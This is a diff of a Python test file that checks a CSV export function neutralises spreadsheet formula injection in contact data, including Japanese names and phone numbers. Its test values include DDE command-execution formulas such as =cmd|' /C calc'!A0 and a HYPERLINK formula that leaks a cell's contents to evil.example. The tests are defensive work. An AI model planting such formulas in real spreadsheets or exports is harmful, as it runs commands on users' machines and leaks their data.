@@ -21,26 +21,29 @@ DDE = "=cmd|' /C calc'!A0"
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")'
 
 
-@pytest.mark.parametrize(("value", "phone", "cell"), [
-    (DDE, False, "'" + DDE),
-    ("+cmd|' /C calc'!A0", False, "'+cmd|' /C calc'!A0"),
-    ("-2+3+cmd|' /C calc'!A0", False, "'-2+3+cmd|' /C calc'!A0"),
-    ("@SUM(1+1)*cmd|' /C calc'!A0", False, "'@SUM(1+1)*cmd|' /C calc'!A0"),
-    ("\t=1+1", False, "'\t=1+1"),
-    ("\r=1+1", False, "'\r=1+1"),
-    ("＝ＳＵＭ（１）", False, "'＝ＳＵＭ（１）"),
-    ("山田 太郎", False, "山田 太郎"),
-    ("03-5210-7788", False, "03-5210-7788"),
-    ("a=b", False, "a=b"),
-    ("", False, ""),
-    # a Google phone cell: an international number stays dialable, anything else is quoted
-    ("+81-3-5210-7788", True, "+81-3-5210-7788"),
-    ("+1 (415) 555-0100", True, "+1 (415) 555-0100"),
-    ("+81-3-5210-7788", False, "'+81-3-5210-7788"),
-    ("+81+cmd|' /C calc'!A0", True, "'+81+cmd|' /C calc'!A0"),
-    ("+1-2-SUM(A1)", True, "'+1-2-SUM(A1)"),
-    ("-1-2", True, "'-1-2"),
-])
+@pytest.mark.parametrize(
+    ("value", "phone", "cell"),
+    [
+        (DDE, False, "'" + DDE),
+        ("+cmd|' /C calc'!A0", False, "'+cmd|' /C calc'!A0"),
+        ("-2+3+cmd|' /C calc'!A0", False, "'-2+3+cmd|' /C calc'!A0"),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", False, "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("\t=1+1", False, "'\t=1+1"),
+        ("\r=1+1", False, "'\r=1+1"),
+        ("＝ＳＵＭ（１）", False, "'＝ＳＵＭ（１）"),
+        ("山田 太郎", False, "山田 太郎"),
+        ("03-5210-7788", False, "03-5210-7788"),
+        ("a=b", False, "a=b"),
+        ("", False, ""),
+        # a Google phone cell: an international number stays dialable, anything else is quoted
+        ("+81-3-5210-7788", True, "+81-3-5210-7788"),
+        ("+1 (415) 555-0100", True, "+1 (415) 555-0100"),
+        ("+81-3-5210-7788", False, "'+81-3-5210-7788"),
+        ("+81+cmd|' /C calc'!A0", True, "'+81+cmd|' /C calc'!A0"),
+        ("+1-2-SUM(A1)", True, "'+1-2-SUM(A1)"),
+        ("-1-2", True, "'-1-2"),
+    ],
+)
 def test_safe_cell(value, phone, cell):
     assert safe_cell(value, phone=phone) == cell
 
@@ -53,8 +56,14 @@ REVIEWED = [
     ("department", "-営業部", "Organization Department", "部署", "'-営業部", "'-営業部"),
     ("email", "@evil", "E-mail 1 - Value", "メール", "'@evil", "'@evil"),
     ("name", "=山田 太郎", "Last Name", "氏名", "'=山田", "'=山田 太郎"),
-    ("mobile", "+81-90-1234-5678", "Phone 2 - Value", "携帯", "+81-90-1234-5678",
-     "'+81-90-1234-5678"),
+    (
+        "mobile",
+        "+81-90-1234-5678",
+        "Phone 2 - Value",
+        "携帯",
+        "+81-90-1234-5678",
+        "'+81-90-1234-5678",
+    ),
     ("tel", "03-5210-7788", "Phone 1 - Value", "電話", "03-5210-7788", "03-5210-7788"),
     ("purpose", "+1 物流の相談", None, "目的", None, "'+1 物流の相談"),
     ("next_action", "＝来週電話", None, "次のアクション", None, "'＝来週電話"),
@@ -67,8 +76,10 @@ def reviewed(settings):
     """A contact completed through the review form with hostile values, plus a note."""
     settings.ensure_dirs()
     store = Store(settings.db_url, settings.images_dir)
-    cid = store.add_card(card("a", name="山田 太郎", company="株式会社ミドリ精機",
-                              tel="03-5210-7788"), source_name="a.jpg").contact_id
+    cid = store.add_card(
+        card("a", name="山田 太郎", company="株式会社ミドリ精機", tel="03-5210-7788"),
+        source_name="a.jpg",
+    ).contact_id
     contact = store.get(cid)
     form = review_model(contact)
     typed = {key: value for key, value, *_ in REVIEWED}
@@ -89,8 +100,9 @@ def _rows(args: list[str], encoding: str) -> dict[str, str]:
 
 
 @pytest.mark.parametrize(("key", "typed", "google_col", "excel_col", "google", "excel"), REVIEWED)
-def test_review_form_values_reach_the_csv_as_text(reviewed, key, typed, google_col, excel_col,
-                                                  google, excel):
+def test_review_form_values_reach_the_csv_as_text(
+    reviewed, key, typed, google_col, excel_col, google, excel
+):
     if google_col:
         assert _rows([], "utf-8")[google_col] == google
     assert _rows(["--csv", "excel"], "utf-8-sig")[excel_col] == excel
